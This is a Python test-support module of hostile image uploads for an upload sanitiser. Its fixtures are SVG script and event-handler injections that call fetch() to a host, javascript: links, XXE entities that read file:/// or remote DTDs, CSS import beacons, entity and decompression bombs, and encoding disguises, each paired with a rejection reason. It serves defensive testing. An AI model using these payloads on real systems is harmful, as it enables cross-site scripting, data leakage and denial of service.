"""Files that somebody uploads to harm whoever looks at them, or whoever reads them."""

import zlib
from functools import cache
from typing import Final

from tests.support.images import CIRCLE, SIGNATURE, SVG, chunk, drawing, png

_XLINK: Final = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
_XHTML: Final = "http://www.w3.org/1999/xhtml"
_HTML: Final = f'xmlns="{_XHTML}"'
_EVENTS: Final = "http://www.w3.org/2001/xml-events"
_BOMB: Final = "".join(
    f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10)
)
_TWICE: Final = "".join(
    f'<g id="u{number}"><use href="#u{number - 1}"/><use href="#u{number - 1}"/></g>'
    for number in range(1, 20)
)
_CLIPS: Final = "".join(
    f'<clipPath id="c{number}">' + f'<rect clip-path="url(#c{number - 1})"/>' * 4 + "</clipPath>"
    for number in range(1, 12)
)
_FRAME: Final = chunk(b"fcTL", bytes(26))


@cache
def hostile_images(host: str) -> dict[str, tuple[bytes, str]]:
    """Each file by its name, with the flaw for which it is refused; empty: it is cleaned.

    `host`: an address, http://..., to which nobody who looks at an image should connect.
    """
    return {**_scripts(host), **_references(host), **_costs(), **disguises(), **_pngs(host)}


def _scripts(host: str) -> dict[str, tuple[bytes, str]]:
    """What would run."""
    call = f"fetch('{host}/ran');alert(1)"
    code = f"<script>{call}</script>"
    return {
        "a script": (drawing(code), ""),
        "a script elsewhere": (drawing(f'<script href="{host}/x.js"/>'), ""),
        "a script of XLink": (drawing(f'<script {_XLINK} xlink:href="{host}/x.js"/>'), ""),
        "a script of XHTML": (drawing(f"<x:script xmlns:x='{_XHTML}'>{call}</x:script>"), ""),
        "a script in CDATA": (drawing(f"<script><![CDATA[{call}]]></script>"), ""),
        "handlers of a load": (f'<svg {SVG} onload="{call}"></svg>'.encode(), ""),
        "handlers of other events": (
            drawing(f'<path d="M0 0h24v24z" onfocus="{call}" OnClick="{call}" tabindex="0"/>'),
            "",
        ),
        "a handler in a namespace": (drawing(f'<g xmlns:a="a" a:onload="{call}"/>'), ""),
        "a link that runs": (
            drawing(f'<a href="javascript:{call}"><text>x</text></a>'),
            "not_a_drawing",
        ),
        "an animation of a link": (
            drawing(f'<animate attributeName="href" values="javascript:{call}" begin="0s"/>'),
            "not_a_drawing",
        ),
        "an animation of a handler": (
            drawing(f'<set attributeName="onclick" to="{call}"/>'),
            "not_a_drawing",
        ),
        "an animation that begins it": (
            drawing(f'<animate onbegin="{call}" attributeName="x" dur="1s"/>'),
            "not_a_drawing",
        ),
        "a page": (
            drawing(f'<foreignObject width="9" height="9"><p {_HTML}>x{code}</p></foreignObject>'),
            "not_a_drawing",
        ),
        "a frame": (
            drawing(f'<foreignObject><iframe {_HTML} src="javascript:{call}"/></foreignObject>'),
            "not_a_drawing",
        ),
        "a handler of SVG Tiny": (
            drawing(f'<handler xmlns:e="{_EVENTS}" e:event="load">{call}</handler>'),
            "not_a_drawing",
        ),
    }


def _references(host: str) -> dict[str, tuple[bytes, str]]:
    """What would tell another host who looks."""
    outside = "refers_outside"
    return {
        "a picture elsewhere": (drawing(f'<image href="{host}/a.png"/>'), "not_a_drawing"),
        "a picture within": (
            drawing('<image href="data:image/png;base64,AA=="/>'),
            "not_a_drawing",
        ),
        "a part elsewhere": (drawing(f'<use href="{host}/a.svg#a"/>'), outside),
        "a part within data": (drawing('<use href="data:image/svg+xml;base64,AA==#a"/>'), outside),
        "a part elsewhere by XLink": (drawing(f'<use {_XLINK} xlink:href="{host}/a#a"/>'), outside),
        "a part on this server": (drawing('<use href="/static/star.svg#a"/>'), outside),
        "a gradient elsewhere": (
            drawing(f'<path d="M0 0h9" fill="url({host}/a.svg#a)"/>'),
            outside,
        ),
        "a style that loads": (drawing(f"<g style=\"background:url('{host}/a')\"/>"), outside),
        "a style that hides it": (drawing(f'<g style="fill:u\\72l({host}/a)"/>'), outside),
        "a style of image-set": (
            drawing(f"<g style=\"cursor:image-set('{host}/a' 1x)\"/>"),
            outside,
        ),
        "a sheet that loads": (drawing(f"<style>*{{background:url({host}/a)}}</style>"), outside),
        "a sheet that imports": (drawing(f"<style>@import '{host}/a.css';</style>"), outside),
        "a sheet that imports in CDATA": (
            drawing(f"<style><![CDATA[@import '{host}/a.css';]]></style>"),
            outside,
        ),
        "a sheet of parts": (
            drawing(f"<style>@im<x/>port '{host}/a.css';</style>"),
            "not_a_drawing",
        ),
        "a font": (
            drawing(f"<style>@font-face{{src:url({host}/a)}}*{{font-family:a}}</style>"),
            outside,
        ),
        "a sheet elsewhere": (
            drawing("", before=f'<?xml-stylesheet type="text/css" href="{host}/a.css"?>'),
            "",
        ),
        "a transformation": (
            drawing("", before=f'<?xml-stylesheet type="text/xsl" href="{host}/a.xsl"?>'),
            "",
        ),
        "a base": (drawing(f'<g xml:base="{host}/"><use href="#a"/></g>'), ""),
        "a filter elsewhere": (
            drawing(f'<filter id="f"><feImage href="{host}/a"/></filter>'),
            "not_a_drawing",
        ),
        "a link of HTML": (
            drawing(f'<x:link xmlns:x="{_XHTML}" rel="stylesheet" href="{host}/a"/>'),
            "",
        ),
        "an entity elsewhere": (
            drawing("&a;", before=f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{host}/a">]>'),
            "document_type",
        ),
        "an entity of a file": (
            drawing("<text>&a;</text>", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///a">]>'),
            "document_type",
        ),
        "definitions elsewhere": (
            drawing("", before=f'<!DOCTYPE svg SYSTEM "{host}/a.dtd">'),
            "document_type",
        ),
    }


def _costs() -> dict[str, tuple[bytes, str]]:
    """What would take long to read or to draw."""
    return {
        "entities of entities": (
            drawing("<text>&e9;</text>", before=f'<!DOCTYPE svg [<!ENTITY e0 "x">{_BOMB}]>'),
            "document_type",
        ),
        "deep nesting": (drawing("<g>" * 8000 + "</g>" * 8000), "too_complex"),
        "very many elements": (drawing("<g/>" * 16_000), "too_complex"),
        "repeats of repeats": (drawing(f'<g id="u0"/>{_TWICE}'), "too_complex"),
        "clips of clips": (drawing(f'<clipPath id="c0"/>{_CLIPS}'), "too_complex"),
        "clips by a sheet": (
            drawing('<style>rect{clip-path:url(#c)}</style><clipPath id="c"><rect/></clipPath>'),
            "too_complex",
        ),
        "a pattern of patterns": (
            drawing('<pattern id="p"><rect fill="url(#p)"/></pattern>'),
            "not_a_drawing",
        ),
        "a filter of noise": (
            drawing('<filter id="f"><feTurbulence numOctaves="999"/></filter>'),
            "not_a_drawing",
        ),
    }


def disguises() -> dict[str, tuple[bytes, str]]:
    """What is not what it seems to be, in one encoding or another."""
    script = f"<svg {SVG}><script>alert(1)</script></svg>"
    in_utf7 = f'<?xml version="1.0" encoding="UTF-7"?><svg {SVG}>+ADw-script+AD4-</svg>'
    return {
        "UTF-16": (script.encode("utf-16"), "not_utf8"),
        "UTF-16 without a mark": (script.encode("utf-16-le"), "not_utf8"),
        "UTF-32": (script.encode("utf-32"), "not_utf8"),
        "UTF-7": (in_utf7.encode(), "not_utf8"),
        "a double-byte encoding": (
            f'<?xml version="1.0" encoding="ISO-2022-JP"?>{script}'.encode(),
            "not_utf8",
        ),
        "HTML": (b"<!DOCTYPE html><script>alert(1)</script>", "document_type"),
        "XHTML": (f"<html {_HTML}><script>alert(1)</script></html>".encode(), "not_an_image"),
        "an SVG without a namespace": (b"<svg><script>alert(1)</script></svg>", "not_an_image"),
        "HTML behind a drawing": (CIRCLE + b"<script>alert(1)</script>", "broken"),
        "two roots": (CIRCLE + CIRCLE, "broken"),
        "HTML in a comment": (drawing("", before="<!--<script>alert(1)</script>-->"), ""),
        "a GIF": (b"GIF89a\1\0\1\0\0\0\0;", "not_an_image"),
        "a GIF that is a script": (b"GIF89a=1;alert(1)//", "not_an_image"),
        "a JPEG": (b"\xff\xd8\xff\xe0\0\x10JFIF\0", "not_an_image"),
        "a PDF": (b"%PDF-1.7\n1 0 obj", "not_an_image"),
        "a zip": (b"PK\3\4" + bytes(30), "not_an_image"),
        "a compressed SVG": (b"\x1f\x8b\x08\0" + zlib.compress(CIRCLE), "not_an_image"),
        "nothing": (b"", "not_an_image"),
    }


def _pngs(host: str) -> dict[str, tuple[bytes, str]]:
    """PNGs that are more than a picture, or less."""
    page = f"<html><script src='{host}/x.js'></script></html>".encode()
    text = chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(32 << 20), 9))
    profile = chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(32 << 20), 9))
    animation = chunk(b"acTL", b"\0\0\0\x02\0\0\0\0")
    return {
        "HTML behind a PNG": (png(end=page), ""),
        "HTML in a text of a PNG": (png(chunk(b"tEXt", b"Comment\0" + page)), ""),
        "a GIF behind a PNG": (png(end=b"GIF89a\1\0\1\0\0\0\0;"), ""),
        "HTML after a PNG's signature": (SIGNATURE + page, "broken"),
        "an animation": (png(animation, _FRAME), "animated"),
        "a huge PNG": (png(width=60_000, height=60_000, rows=b""), "many_pixels"),
        "a wide PNG": (png(width=0x7FFFFFFF, height=1, rows=b""), "many_pixels"),
        "a PNG without pixels": (png(width=0, height=0), "broken"),
        "a PNG cut short": (png()[:-20], "broken"),
        "a head alone": (png()[:33], "broken"),
        "a signature alone": (SIGNATURE, "broken"),
        "fewer pixels than it says": (png(rows=bytes(33)), ""),
        "a bomb of pixels": (png(rows=bytes(32 << 20)), ""),
        "a bomb of text": (png(text), "broken"),
        "a bomb of a profile": (png(profile), "broken"),
        "a wrong checksum": (png()[:29] + b"\0\0\0\0" + png()[33:], "broken"),
    }
